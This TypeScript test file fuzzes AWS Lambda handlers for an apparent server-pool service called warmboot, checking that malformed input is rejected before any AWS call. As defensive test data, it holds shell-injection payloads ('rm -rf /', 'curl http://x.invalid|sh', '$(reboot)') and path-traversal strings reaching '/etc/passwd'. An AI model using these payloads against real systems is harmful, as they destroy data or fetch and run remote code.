import { readdirSync, readFileSync } from 'node:fs';
import { Logger } from '@aws-lambda-powertools/logger';
import { Metrics } from '@aws-lambda-powertools/metrics';
import { Tracer } from '@aws-lambda-powertools/tracer';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { EC2_STATE_CHANGE, FUNCTIONS, type FunctionId, RULE_DELIVERY_ALIAS } from '../../functions/catalog';
import { createAwsClients } from '../../functions/shared/aws-clients';
import { TABLES, type TableId, tableEnvVar } from '../../functions/shared/tables';
import { VirtualClock } from '../../local/clock';
import { LOCAL_CREDENTIALS } from '../../local/dynamodb-local';
import { functionFolder, loadHandlerFactory } from '../../local/functions';
import { lambdaContext } from '../../local/lambda-context';
import { UNREACHABLE_ENDPOINT } from '../../local/runtime';
import { attachSimulator } from '../../local/sdk-bridge';

/**
 * Every handler rejects malformed input before touching AWS. Each function's real handler runs
 * with SDK clients that record every call (DynamoDB included) instead of sending it; junk derived
 * from the sample events in events/ must come back `rejected` with `error.field` naming the
 * offending field, and the only call allowed is the PutEvents of the `Request Rejected` fact,
 * which must carry the same field. Idempotency is off here: in Lambda its DynamoDB record comes
 * before parsing, and that one write is the chain's, not the handler's.
 */

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };
type Path = readonly (string | number)[];

interface RecordedCall {
  readonly service: string;
  readonly operation: string;
  readonly input: Record<string, unknown>;
}

const REGION = 'us-east-1';
const clock = new VirtualClock();

const recordingRuntime = (functionId: FunctionId, calls: RecordedCall[]) => {
  const clients = createAwsClients({
    region: REGION,
    credentials: LOCAL_CREDENTIALS,
    endpoints: {
      ec2: UNREACHABLE_ENDPOINT,
      ssm: UNREACHABLE_ENDPOINT,
      events: UNREACHABLE_ENDPOINT,
      dynamodb: UNREACHABLE_ENDPOINT,
    },
  });
  const recorder = (service: string) => async (operation: string, input: Record<string, unknown>) => {
    calls.push({ service, operation, input });
    return service === 'events' ? { FailedEntryCount: 0, Entries: [{ EventId: 'recorded' }] } : {};
  };
  attachSimulator(clients.ec2, recorder('ec2'));
  attachSimulator(clients.ssm, recorder('ssm'));
  attachSimulator(clients.events, recorder('events'));
  // The DocumentClient shares this middleware stack, so document calls are recorded too.
  attachSimulator(clients.dynamodb, recorder('dynamodb'));
  const tables = Object.fromEntries(
    (Object.keys(TABLES) as TableId[]).map((id) => [tableEnvVar(id), `bad-input-${id}`]),
  );
  return {
    clock,
    random: () => 0.5,
    clients,
    logger: new Logger({ serviceName: functionId, logLevel: 'SILENT' }),
    metrics: new Metrics({ namespace: 'Warmboot', serviceName: functionId }),
    tracer: new Tracer({ serviceName: functionId, enabled: false }),
    env: {
      AWS_REGION: REGION,
      ...tables,
      HOST_GROUPS: JSON.stringify(HOST_GROUPS),
      FACTS_BUS_NAME: 'warmboot-facts',
    },
  };
};

const HOST_GROUPS = [
  { name: 'gpu-inference', cacheBytes: 100_000_000_000, cacheDirectory: '/var/lib/warmboot/cache' },
];

const eventsRoot = new URL('../../events/', import.meta.url);
const samplesOf = (functionId: FunctionId): { name: string; event: Record<string, Json> }[] => {
  const folder = functionFolder(functionId);
  return readdirSync(new URL(`${folder}/`, eventsRoot))
    .filter((name) => name.endsWith('.json'))
    .map((name) => ({
      name: `${folder}/${name}`,
      event: JSON.parse(readFileSync(new URL(`${folder}/${name}`, eventsRoot), 'utf8')) as Record<
        string,
        Json
      >,
    }));
};

/** The sample request with a named personalization document and its parameters, so those are fuzzed too. */
const withPersonalizationDocument = (event: Record<string, Json>) => ({
  name: 'claim/request-server.json + personalization.document',
  event: {
    ...event,
    detail: {
      ...(event.detail as Record<string, Json>),
      personalization: {
        hostname: 'build-0001',
        document: {
          name: 'Warmboot-PoolJoinDomain',
          parameters: { domain: ['corp.example.com'], site: ['eu-west'] },
        },
      },
    },
  },
});

/** A well-formed EC2 state change, for every function whose rules receive one. */
const ec2StateChange = (state: string): Record<string, Json> => ({
  version: '0',
  id: '0d8a6f0e-1c2b-4d3e-9f4a-5b6c7d8e9f01',
  'detail-type': EC2_STATE_CHANGE,
  source: 'aws.ec2',
  account: '123456789012',
  time: '2026-01-05T08:00:00Z',
  region: REGION,
  resources: ['arn:aws:ec2:us-east-1:123456789012:instance/i-0123456789abcdef0'],
  detail: { 'instance-id': 'i-0123456789abcdef0', state },
});

const receivesEc2StateChanges = (functionId: FunctionId): string | undefined => {
  for (const { pattern } of FUNCTIONS[functionId].patterns) {
    const detailTypes = (pattern as { 'detail-type'?: readonly string[] })['detail-type'] ?? [];
    const states = (pattern as { detail?: { state?: readonly string[] } }).detail?.state;
    if (detailTypes.includes(EC2_STATE_CHANGE)) return states?.[0] ?? 'running';
  }
  return undefined;
};

// ---------------------------------------------------------------- junk derived from a sample

/** Every place in a detail a mutation can hit: each key's value and each list element. */
const pathsOf = (value: Json, prefix: Path = []): { path: Path; value: Json }[] => {
  const here = prefix.length > 0 ? [{ path: prefix, value }] : [];
  if (Array.isArray(value))
    return [...here, ...value.flatMap((item, index) => pathsOf(item, [...prefix, index]))];
  if (value !== null && typeof value === 'object') {
    return [...here, ...Object.entries(value).flatMap(([key, item]) => pathsOf(item, [...prefix, key]))];
  }
  return here;
};

const setAt = (root: Json, path: Path, replacement: Json | undefined): Json => {
  const copy = structuredClone(root);
  let node = copy as Record<string | number, Json>;
  for (const key of path.slice(0, -1)) node = node[key] as Record<string | number, Json>;
  const last = path.at(-1) as string | number;
  if (replacement === undefined) {
    if (Array.isArray(node)) node.splice(Number(last), 1);
    else delete node[last];
  } else {
    node[last] = replacement;
  }
  return copy;
};

const fieldOf = (path: Path): string => ['detail', ...path.map(String)].join('.');

/** A value of another JSON type than `value`, which no schema field can accept in its place. */
const wrongTypeFor = (value: Json): fc.Arbitrary<Json> => {
  if (typeof value === 'string') return fc.constantFrom<Json>(42, true, null, { nested: 'x' }, [value]);
  if (typeof value === 'number') return fc.constantFrom<Json>('42', true, null, [value], { n: value });
  if (typeof value === 'boolean') return fc.constantFrom<Json>('true', 1, null, [value]);
  if (Array.isArray(value)) return fc.constantFrom<Json>('a,b', 7, true, { 0: value[0] ?? 'x' });
  return fc.constantFrom<Json>('object', 7, false, [value]);
};

const SHELL_METACHARACTERS = [';', '|', '&', '$', '(', ')', '`', '>', '<', '\n'] as const;

/** The value with a shell metacharacter and a payload spliced in, at the start, the middle or the end. */
const hostileVariant = (value: string): fc.Arbitrary<string> =>
  fc
    .record({
      meta: fc.constantFrom(...SHELL_METACHARACTERS),
      payload: fc.constantFrom('rm -rf /', 'curl http://x.invalid|sh', 'id', '$(reboot)', ''),
      at: fc.nat({ max: value.length }),
    })
    .map(({ meta, payload, at }) => `${value.slice(0, at)}${meta}${payload}${value.slice(at)}`);

/** Path traversal in names and directories. */
const traversalVariant = (value: string): fc.Arbitrary<string> =>
  fc.constantFrom(`../${value}`, `${value}/../../etc/passwd`, `/var/lib/../../root/${value}`, `${value}/..`);

const AWS_ID = /^(?:i|vol|snap|ami|subnet|sg|lt|sh)-[0-9a-z]+/;

/** An AWS or warmboot id bent out of shape: wrong prefix, case, length, stray characters. */
const wrongShapeId = (value: string): fc.Arbitrary<string> =>
  fc.constantFrom(
    value.toUpperCase(),
    `x${value}`,
    `${value}0123456789abcdef0123`,
    value.replace(/-/, '_'),
    `${value.split('-')[0]}-`,
    `${value} `,
    `${value}%00`,
  );

/** Names, directories and personalization values, where `../` must not pass. */
const PATH_LIKE = /(?:image|directory|source|hostname|sshUser|parameters|name$)/i;

interface Junk {
  readonly kind: string;
  readonly path: Path;
  readonly detail: Json;
}

const junkFor = (detail: Json): fc.Arbitrary<Junk> => {
  const paths = pathsOf(detail);
  const strings = paths.filter(
    (entry): entry is { path: Path; value: string } => typeof entry.value === 'string',
  );
  const lists = paths.filter((entry) => Array.isArray(entry.value) && entry.value.length > 0);
  const ids = strings.filter((entry) => AWS_ID.test(entry.value));
  const named = strings.filter((entry) => PATH_LIKE.test(entry.path.map(String).join('.')));
  /** Junk of `kind`: the value at one of `targets` replaced by one of its variants. */
  const replaced = <T extends Json>(
    kind: string,
    targets: readonly { path: Path; value: T }[],
    variant: (value: T) => fc.Arbitrary<Json>,
  ): fc.Arbitrary<Junk>[] =>
    targets.length === 0
      ? []
      : [
          fc
            .constantFrom(...targets)
            .chain(({ path, value }) =>
              variant(value).map((replacement) => ({ kind, path, detail: setAt(detail, path, replacement) })),
            ),
        ];
  const junk: fc.Arbitrary<Junk>[] = [
    ...replaced('wrong type', paths, wrongTypeFor),
    ...replaced('shell metacharacter', strings, hostileVariant),
    ...replaced('path traversal', named, traversalVariant),
    ...replaced('id of the wrong shape', ids, wrongShapeId),
  ];
  if (lists.length > 0) {
    junk.push(
      fc.constantFrom(...lists).map(({ path, value }) => ({
        kind: 'oversized list',
        path,
        // Past every per-request cap (the largest is 1,000), still far below EventBridge's 256 KB.
        detail: setAt(
          detail,
          path,
          Array.from({ length: 5001 }, () => (value as Json[])[0] ?? null),
        ),
      })),
    );
  }
  return fc.oneof(...junk).map((made) => ({
    ...made,
    // What fast-check prints for a counterexample: the mutation, not 5,001 list items.
    [fc.toStringMethod]: () => {
      let value: unknown = made.detail;
      for (const key of made.path) value = (value as Record<string | number, unknown>)[key];
      const shown = JSON.stringify(value) ?? 'undefined';
      return `${made.kind} at ${fieldOf(made.path)} = ${shown.length > 120 ? `${shown.slice(0, 120)}… (${shown.length} chars)` : shown}`;
    },
  }));
};

/** Fields each sample cannot do without (from the functions' schemas). */
const REQUIRED: Record<string, readonly Path[]> = {
  'shelving/shelve.json': [['instanceIds']],
  'shelving/delete-shelved.json': [['recordId']],
  'pools/drain-pool.json': [['pool']],
  'pools/define-pool.json': [['pool'], ['pool', 'name']],
  'claim/request-server.json': [['ownerTags']],
  'image-cache/register-image.json': [['image'], ['image', 'id'], ['image', 'digest'], ['image', 'source']],
  'image-cache/pin-image.json': [['imageId']],
  'popularity/image-launched.json': [['image']],
};

// ---------------------------------------------------------------- the properties

/**
 * `field` names the mutated path, the object or list that contains it (a union or refinement
 * reports there), or a part of the replacement (a list put where a string was names its element).
 */
const namesField = (field: unknown, path: Path): boolean => {
  if (typeof field !== 'string' || !field.startsWith('detail.')) return false;
  const mutated = fieldOf(path);
  return field === mutated || mutated.startsWith(`${field}.`) || field.startsWith(`${mutated}.`);
};

const FUNCTION_IDS = Object.keys(FUNCTIONS) as FunctionId[];

describe.each(FUNCTION_IDS)('the %s handler on bad input', (functionId) => {
  const calls: RecordedCall[] = [];
  const handlerOf = async () =>
    (await loadHandlerFactory(functionId))(recordingRuntime(functionId, calls) as never);
  const samples = [
    ...samplesOf(functionId),
    ...(functionId === 'claim' ? [withPersonalizationDocument(samplesOf('claim')[0]?.event ?? {})] : []),
    ...(receivesEc2StateChanges(functionId) !== undefined
      ? [
          {
            name: 'aws.ec2 state change',
            event: ec2StateChange(receivesEc2StateChanges(functionId) ?? 'running'),
          },
        ]
      : []),
  ];
  const contextOptions = {
    functionId,
    requestId: 'bad-input',
    clock,
    region: REGION,
    accountId: '123456789012',
  };
  /** The console or `aws lambda invoke`: operator requests arrive so. */
  const context = lambdaContext(contextOptions);
  /** An EventBridge rule: AWS events (and any request a rule delivers) arrive so. */
  const ruleContext = lambdaContext({ ...contextOptions, qualifier: RULE_DELIVERY_ALIAS });

  const dispatch = async (
    handler: Awaited<ReturnType<typeof handlerOf>>,
    event: Record<string, Json>,
    invocation = event.source === 'warmboot' ? context : ruleContext,
  ) => {
    calls.length = 0;
    const outcome = (await handler(event, invocation)) as {
      status: string;
      error?: { code?: string; field?: string; message?: string };
    };
    return { outcome, calls: [...calls] };
  };

  /** The only call a rejection may make: the PutEvents of the Request Rejected fact, naming the field. */
  const expectOnlyTheRejectionFact = (
    event: Record<string, Json>,
    outcome: { error?: { field?: string } },
    made: readonly RecordedCall[],
  ) => {
    const others = made.filter((call) => !(call.service === 'events' && call.operation === 'PutEvents'));
    expect(others, 'AWS calls made for rejected input').toEqual([]);
    if (event.source !== 'warmboot') {
      expect(made).toEqual([]);
      return;
    }
    expect(made).toHaveLength(1);
    const entries = (made[0]?.input.Entries ?? []) as { DetailType?: string; Detail?: string }[];
    expect(entries.map((entry) => entry.DetailType)).toEqual(['Request Rejected']);
    const reported = JSON.parse(entries[0]?.Detail ?? '{}') as { error?: { field?: string } };
    expect(reported.error?.field).toBe(outcome.error?.field);
  };

  it.each(samples)(
    'rejects junk derived from $name, naming the field, with no AWS call',
    async ({ event }) => {
      const handler = await handlerOf();
      await fc.assert(
        fc.asyncProperty(junkFor(event.detail as Json), async (junk) => {
          const { outcome, calls: made } = await dispatch(handler, {
            ...event,
            detail: junk.detail,
          } as Record<string, Json>);
          expect(outcome.status, `${junk.kind} at ${fieldOf(junk.path)}`).toBe('rejected');
          expect(
            namesField(outcome.error?.field, junk.path),
            `${junk.kind} at ${fieldOf(junk.path)} reported as ${outcome.error?.field}`,
          ).toBe(true);
          expect(outcome.error?.message).toBeTruthy();
          expectOnlyTheRejectionFact(event, outcome, made);
        }),
        { numRuns: 150 },
      );
    },
  );

  it.each(samples.filter(({ name }) => REQUIRED[name] !== undefined))(
    'rejects $name without each required field, naming it',
    async ({ name, event }) => {
      const handler = await handlerOf();
      for (const path of REQUIRED[name] ?? []) {
        const { outcome, calls: made } = await dispatch(handler, {
          ...event,
          detail: setAt(event.detail as Json, path, undefined),
        } as Record<string, Json>);
        expect(outcome.status, fieldOf(path)).toBe('rejected');
        expect(outcome.error?.field).toBe(fieldOf(path));
        expectOnlyTheRejectionFact(event, outcome, made);
      }
    },
  );

  it.each(samples)('ignores $name under an unknown detail-type, with no AWS call', async ({ event }) => {
    const handler = await handlerOf();
    await fc.assert(
      fc.asyncProperty(fc.string({ minLength: 1, maxLength: 40 }), async (suffix) => {
        const { outcome, calls: made } = await dispatch(
          handler,
          { ...event, 'detail-type': `Unknown ${suffix}` },
          ruleContext,
        );
        expect(outcome.status).toBe('ignored');
        expect(made).toEqual([]);
      }),
      { numRuns: 25 },
    );
  });

  it.each(samples)(
    'refuses $name of another account or Region, by rule or direct invoke, naming the field, with no AWS call',
    async ({ event }) => {
      const handler = await handlerOf();
      const foreign: [string, Record<string, Json>][] = [
        ['account', { account: '210987654321' }],
        ['region', { region: 'eu-west-1' }],
      ];
      for (const [field, overrides] of foreign) {
        for (const invocation of [context, ruleContext]) {
          const { outcome, calls: made } = await dispatch(handler, { ...event, ...overrides }, invocation);
          expect(outcome, field).toMatchObject({
            status: 'rejected',
            error: { code: 'EnvelopeRefused', field },
          });
          expect(made).toEqual([]);
        }
      }
    },
  );

  const sourceOf = (event: object): unknown => (event as Record<string, Json>).source;

  it.each(samples.filter(({ event }) => sourceOf(event) !== 'warmboot'))(
    'refuses $name passed by a direct invoke: AWS events arrive only through rules',
    async ({ event }) => {
      const handler = await handlerOf();
      const { outcome, calls: made } = await dispatch(handler, event, context);

      expect(outcome).toMatchObject({
        status: 'rejected',
        error: { code: 'EnvelopeRefused', field: 'source' },
      });
      expect(made).toEqual([]);
    },
  );

  it.each(samples.filter(({ event }) => sourceOf(event) === 'warmboot'))(
    'refuses $name by direct invoke under a request type this function does not serve',
    async ({ event }) => {
      const handler = await handlerOf();
      const { outcome, calls: made } = await dispatch(
        handler,
        { ...event, 'detail-type': 'Unknown Request' },
        context,
      );

      expect(outcome).toMatchObject({
        status: 'rejected',
        error: { code: 'EnvelopeRefused', field: 'detail-type' },
      });
      expect(made).toEqual([]);
    },
  );
});

/**
 * The classes the security review (§5) found missing, on the requests that launch and hand out
 * servers: 200 KB strings in every field, prototype keys in every record, owner tag keys in
 * warmboot's or AWS's namespace in any letter case, and a superuser as SSH user. Each is
 * rejected naming the field, before any AWS call.
 */
describe('Request Server and Define Pool on the review’s missing classes of bad input', () => {
  const HUGE = 'a'.repeat(200 * 1024);
  const cases: { functionId: FunctionId; sample: string; junk: { field: string; detail: Json }[] }[] = [];
  const stringsOf = (detail: Json) =>
    pathsOf(detail).filter(
      (entry): entry is { path: Path; value: string } => typeof entry.value === 'string',
    );
  const withKeys = (detail: Json, path: Path, keys: Record<string, Json>): Json =>
    setAt(detail, path, JSON.parse(JSON.stringify(keys)) as Json);
  for (const functionId of ['claim', 'pools'] as const) {
    for (const { name, event } of samplesOf(functionId)) {
      const detail = event.detail as Json;
      cases.push({
        functionId,
        sample: name,
        junk: stringsOf(detail).map(({ path, value }) => ({
          field: fieldOf(path),
          detail: setAt(detail, path, `${value}${HUGE}`),
        })),
      });
    }
  }
  const request = samplesOf('claim')[0]?.event.detail as Json;
  // A document warmboot deploys, so a parameter it does not have is refused by name.
  const personalizationDocument = setAt(request, ['personalization', 'document'], {
    name: 'Warmboot-PoolPersonalize',
    parameters: { hostname: ['build-0001'] },
  });
  cases.push({
    functionId: 'claim',
    sample: 'claim/request-server.json, record keys and users',
    junk: [
      // JSON.parse makes `__proto__` an own key, as the Lambda runtime's parser does.
      ...['__proto__', 'constructor', 'prototype'].map((key) => ({
        field: `detail.ownerTags.${key}`,
        detail: withKeys(request, ['ownerTags'], JSON.parse(`{"${key}": "x", "owner": "team-build"}`)),
      })),
      ...['__proto__', 'constructor', 'toString'].map((key) => ({
        field: `detail.personalization.document.parameters.${key}`,
        detail: withKeys(
          personalizationDocument,
          ['personalization', 'document', 'parameters'],
          JSON.parse(`{"${key}": ["corp.example.com"]}`),
        ),
      })),
      ...[
        'Warmboot:Managed',
        'WARMBOOT:POOL',
        'warmBoot:claim',
        'AWS:x',
        'Aws:cloudformation:stack-name',
      ].map((key) => ({
        field: `detail.ownerTags.${key}`,
        detail: withKeys(request, ['ownerTags'], { [key]: 'true' }),
      })),
      ...['root', 'administrator'].map((user) => ({
        field: 'detail.personalization.sshUser',
        detail: setAt(request, ['personalization', 'sshUser'], user),
      })),
    ],
  });

  it.each(cases)(
    '$functionId rejects each from $sample, naming the field, with no AWS call',
    async ({ functionId, junk }) => {
      const calls: RecordedCall[] = [];
      const handler = (await loadHandlerFactory(functionId))(recordingRuntime(functionId, calls) as never);
      const context = lambdaContext({
        functionId,
        requestId: 'bad-input',
        clock,
        region: REGION,
        accountId: '123456789012',
      });
      const [sample] = samplesOf(functionId);
      expect(junk.length).toBeGreaterThan(0);
      for (const { field, detail } of junk) {
        calls.length = 0;
        const outcome = (await handler({ ...sample?.event, detail }, context)) as {
          status: string;
          error?: { field?: string };
        };
        expect(outcome.status, field).toBe('rejected');
        expect(outcome.error?.field, field).toBe(field);
        expect(
          calls.filter((call) => !(call.service === 'events' && call.operation === 'PutEvents')),
          field,
        ).toEqual([]);
      }
    },
  );
});
